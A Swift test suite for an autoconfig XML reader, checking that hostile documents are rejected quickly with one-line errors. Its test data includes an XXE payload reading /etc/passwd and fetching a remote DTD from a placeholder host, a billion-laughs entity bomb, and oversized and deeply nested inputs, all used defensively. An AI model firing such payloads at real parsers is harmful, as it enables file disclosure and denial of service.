import AutoconfKit
import Foundation
import Testing

/// Hostile documents: each must fail with a clear one-line error, quickly, without touching the
/// file system or network and without unbounded memory.
@Suite struct HostileXMLTests {
    let reader = ConfigXMLReader()

    func expectRejected(_ data: [UInt8], containing fragment: String, within seconds: Double = 1) {
        let start = ContinuousClock.now
        #expect { try reader.read(data, source: "hostile.xml") } throws: { error in
            let message = (error as? XMLParseError)?.description ?? ""
            return message.contains(fragment) && !message.contains("\n")
        }
        #expect(ContinuousClock.now - start < .seconds(seconds))
    }

    @Test func externalEntityIsNeverResolved() {
        let xml = """
            <?xml version="1.0"?>
            <!DOCTYPE clientConfig [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> <!ENTITY % remote SYSTEM "http://canary.invalid/x.dtd"> %remote; ]>
            <clientConfig><emailProvider><domain>&xxe;</domain></emailProvider></clientConfig>
            """
        expectRejected(Array(xml.utf8), containing: "DOCTYPE")
    }

    @Test func billionLaughsIsRejectedBeforeExpansion() {
        var xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n"
        for level in 1...9 { xml += "<!ENTITY lol\(level) \"" + String(repeating: "&lol\(level - 1 == 0 ? "" : String(level - 1));", count: 10) + "\">\n" }
        xml += "]>\n<clientConfig>&lol9;</clientConfig>"
        expectRejected(Array(xml.utf8), containing: "not allowed")
    }

    @Test func hundredMegabytesAreRefusedBySize() {
        let data = [UInt8]("<clientConfig>".utf8) + [UInt8](repeating: 0x41, count: 100 << 20)
        expectRejected(data, containing: "larger than the 1048576-byte limit")
    }

    @Test func invalidUTF8IsReported() {
        let data = [UInt8]("<?xml version=\"1.0\" encoding=\"UTF-8\"?><clientConfig><emailProvider><domain>".utf8) + [0xFF, 0xFE, 0xC3] + [UInt8]("</domain></emailProvider></clientConfig>".utf8)
        expectRejected(data, containing: "hostile.xml:1:")
    }

    @Test func wrongRootIsReported() {
        expectRejected(Array("<html><body>Not found</body></html>".utf8), containing: "root element is <html>, expected <clientConfig>")
    }

    @Test func deepNestingIsBounded() {
        let depth = 100_000
        let xml = "<clientConfig>" + String(repeating: "<a>", count: depth) + String(repeating: "</a>", count: depth) + "</clientConfig>"
        expectRejected(Array(xml.utf8), containing: "hostile.xml:", within: 2)
    }

    @Test func emptyAndBinaryInput() {
        expectRejected([], containing: "empty")
        expectRejected([0, 1, 2, 3, 0xFF], containing: "hostile.xml")
    }
}
